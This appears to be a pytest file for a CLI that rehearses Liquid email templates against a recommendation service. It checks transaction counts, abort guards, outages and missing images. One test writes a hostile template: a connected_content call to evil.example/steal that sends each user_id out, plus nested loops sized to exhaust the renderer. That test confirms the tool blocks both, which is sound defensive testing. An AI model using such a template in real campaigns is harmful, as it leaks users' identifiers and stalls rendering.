"""`rehearse` against a real service."""

import csv
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner, Result

from service.cli import main
from tests.support.ports import free_port
from tests.support.processes import SAMPLE, Process, local_personalize, service

pytestmark = pytest.mark.processes

CALL = (
    "{% connected_content https://recs.example.com/recommendations"
    "?user_id={{${user_id} | url_param_escape}}&num_results=2 :save r %}"
)
GUARD = "{% if r[0].name == blank %}{% abort_message('no items') %}{% endif %}"
SHOWN = (
    '<a href="{{ r[0].url }}"><img src="{{ r[0].image }}" alt="{{ r[0].name | escape }}"></a> {{ r[0].price | money }}'
)


@pytest.fixture(scope="module")
def personalize() -> Iterator[Process]:
    with local_personalize(tps=500) as running:
        yield running


@pytest.fixture(scope="module")
def replica(personalize: Process) -> Iterator[Process]:
    with service(personalize, PERSONALIZE_TPS="400") as running:
        yield running


@contextmanager
def answering(body: bytes) -> Iterator[str]:
    """Something that answers every call with this JSON, until the block ends."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    class Server(ThreadingHTTPServer):
        # Closing it waits for every answer.
        daemon_threads = False

    with Server(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            thread.join()


def rehearse(folder: Path, template: str, *options: str, first: int = 26) -> Result:
    (folder / "mail.liquid").write_text(template, "utf-8")
    (folder / "users.csv").write_text(
        "user_id,plan\n" + "".join(f"user{number},x\n" for number in range(first, first + 25)), "utf-8"
    )
    arguments = ["--template", str(folder / "mail.liquid"), "--users", str(folder / "users.csv")]
    return CliRunner().invoke(main, ["rehearse", *arguments, "--per-minute", "6000", *options])


def test_a_send_is_played_and_each_user_costs_one_transaction(replica: Process, tmp_path: Path) -> None:
    page = tmp_path / "sheet.html"
    done = rehearse(
        tmp_path,
        CALL + GUARD + SHOWN,
        *("--service", replica.url, "--json", "--sheet", str(page), "--at-least", "0.99"),
        first=1,
    )

    assert done.exit_code == 0, done.output
    report = orjson.loads(done.stdout)
    assert (report["messages"], report["fates"], report["calls"]) == (25, {"rendered": 25}, 50)
    assert report["transactions"] == 25
    assert report["differing_parts"] == 0
    assert report["different_lists"] > 3
    assert page.read_text("utf-8").count("<iframe") == 24


def test_a_template_that_aborts_everybody_is_found(replica: Process, tmp_path: Path) -> None:
    """The guard that Braze documents is nil on an array."""
    guard = "{% if r.__http_status_code__ != 200 %}{% abort_message('not 200') %}{% endif %}"
    done = rehearse(tmp_path, CALL + guard + SHOWN, "--service", replica.url, "--at-least", "0.9")

    assert done.exit_code == 1
    assert done.stdout.startswith("0.0% of 25 messages would be sent")
    assert "not 200" in done.stdout
    assert "0.00% is less than --at-least 90.00%" in done.stderr


def test_a_service_that_is_down_is_found(tmp_path: Path) -> None:
    done = rehearse(tmp_path, CALL + SHOWN, "--service", f"http://127.0.0.1:{free_port()}", "--at-least", "1")

    assert done.exit_code == 1
    assert "Cannot connect" in done.stdout
    assert "a picture without an address (empty-image)" in done.stdout


def test_a_catalogue_without_images_is_found(personalize: Process, tmp_path: Path) -> None:
    """An item without an image is never shown, so the few that have one stand in every message."""
    with (SAMPLE / "items.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    catalog = tmp_path / "items.csv"
    with catalog.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows({**row, "image": row["image"] if at < 3 else ""} for at, row in enumerate(rows))
    with service(personalize, catalog=catalog, PERSONALIZE_TPS="400") as running:
        done = rehearse(tmp_path, CALL + GUARD + SHOWN, "--service", running.url, first=1)

    assert "warning: most users see the same item" in done.stdout


def test_pictures_without_an_address_are_found(tmp_path: Path) -> None:
    """As from a service that shows items without an image."""
    items = orjson.dumps([{"id": "a", "name": "Kettle", "url": "https://a.example/a", "price": 9.5, "image": ""}])
    with answering(items) as url:
        done = rehearse(tmp_path, CALL + GUARD + SHOWN, "--service", url, "--at-least", "0.5")

    assert done.exit_code == 1
    assert "messages hold a picture without an address (empty-image)" in done.stdout


def test_a_hostile_template_ends_and_no_other_host_is_called(replica: Process, tmp_path: Path) -> None:
    stranger = "{% connected_content https://evil.example/steal?x={{${user_id}}} :save s %}"
    loops = "{% for i in (1..99999) %}{% for j in (1..99999) %}x{% endfor %}{% endfor %}"
    done = rehearse(tmp_path, stranger + loops, "--service", replica.url, "--limit", "2", "--passes", "1")

    assert done.exit_code == 0
    assert "failed" in done.stdout
    assert "not called: only the service is" in done.stdout


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (("--service", "recs.example.com"), "no http:// or https:// address"),
        (("--peak", "0.5"), "--peak"),
        (("--at-least", "2"), "--at-least"),
        (("--attribute", "x"), "'x' is not NAME=VALUE"),
        (("--column", "mail"), "no column mail"),
    ],
)
def test_a_wrong_option_is_one_line(tmp_path: Path, options: tuple[str, ...], says: str) -> None:
    done = rehearse(tmp_path, CALL, *options)

    assert done.exit_code == 2
    assert says in done.stderr
    assert "Traceback" not in done.output
